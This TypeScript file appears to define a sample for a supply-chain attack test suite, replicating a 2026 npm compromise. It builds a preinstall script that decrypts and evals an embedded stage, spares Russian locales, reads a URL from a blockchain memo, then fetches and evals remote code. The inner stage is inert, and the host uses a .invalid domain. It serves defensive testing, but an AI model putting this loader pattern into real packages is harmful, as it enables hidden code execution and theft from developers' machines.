import { Buffer } from "node:buffer";
import { createCipheriv } from "node:crypto";

import { defineAttack } from "../attack.ts";
import { componentLibrary } from "../bases.ts";
import { commonScript } from "../guard.ts";
import type { LineChange, PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * GlassWorm in react-native-country-select 0.3.91 and react-native-international-phone-number 0.11.8, 16 March 2026: a hook, new in a
 * package of user interface, decrypts a loader with a key it carries; the loader leaves Russian machines alone and reads where to go
 * from memos on a chain. Reproduced: the decrypted text is inert too.
 */
export const glassworm2026: Sample = defineAttack({
  id: "glassworm-2026",
  title: "A hook decrypts a loader that spares some locales and asks a chain where to go",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "react-native-country-select", version: "0.3.91" },
    { name: "react-native-international-phone-number", version: "0.11.8" },
  ],
  now: "2026-03-16T11:20:00Z",
  createLines: () => [
    line("react-native-country-select", ["0.3.8", "0.3.9", "0.3.91"], "2026-03-16T10:49:00Z"),
    line("react-native-international-phone-number", ["0.11.6", "0.11.7", "0.11.8"], "2026-03-16T10:54:00Z"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  const change: LineChange = {
    hasCommit: false,
    manifest: { scripts: { test: "node --test", preinstall: "node install.js" } },
    files: [{ path: "install.js", content: renderLoader() }],
  };
  return {
    name,
    files: componentLibrary(name),
    publisher: person("astroonauta"),
    releases: [
      [older, "2025-10-12T10:00:00Z"],
      [last, "2025-12-18T10:00:00Z"],
      [armed, at, change],
    ],
  };
}

/** A key and a vector that are printed in the script, as in the real one. */
const key = "wDO6YyTm6DL0T0zJ0SXhUql5Mo0pdlSz";
const vector = "c4b9a3773e9dced6015a670855fd32b9";

function renderLoader(): string {
  const cipher = createCipheriv("aes-256-cbc", key, Buffer.from(vector, "hex"));
  const hidden = cipher.update(inner, "utf8", "base64") + cipher.final("base64");
  return commonScript(String.raw`
const os = require("os");
const https = require("https");
const crypto = require("crypto");
function sparesLocale() {
  const zones = ["Europe/Moscow", "Asia/Yekaterinburg", "Asia/Novosibirsk"];
  const text = [process.env.LANG, process.env.LC_ALL, Intl.DateTimeFormat().resolvedOptions().locale, os.userInfo().username].join(" ");
  return /ru_RU|ru-RU|Russian/i.test(text) || zones.includes(Intl.DateTimeFormat().resolvedOptions().timeZone);
}
function readMemo(done) {
  const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "getSignaturesForAddress", params: ["6YGcuyFRJKZtcaYCCFba9fScNUvPkGXodXE1mJiSzqDJ", { limit: 1000 }] });
  const asked = https.request({ hostname: "api.mainnet-beta.solana.invalid", path: "/", method: "POST", headers: { "Content-Type": "application/json" } }, (reply) => {
    let text = "";
    reply.on("data", (chunk) => (text += chunk));
    reply.on("end", () => done(JSON.parse(text).result.find((entry) => entry.memo).memo));
  });
  asked.on("error", () => {});
  asked.end(body);
}
if (!sparesLocale()) {
  const decipher = crypto.createDecipheriv("aes-256-cbc", "${key}", Buffer.from("${vector}", "hex"));
  const stage = decipher.update("${hidden}", "base64", "utf8") + decipher.final("utf8");
  eval(stage);
  readMemo((link) => https.get(Buffer.from(link, "base64").toString(), (reply) => reply.on("data", (chunk) => eval(atob(chunk.toString())))));
}
`);
}

const inner = `console.log("this stage of the replica is inert; the real one read browsers' profiles and wallets");`;
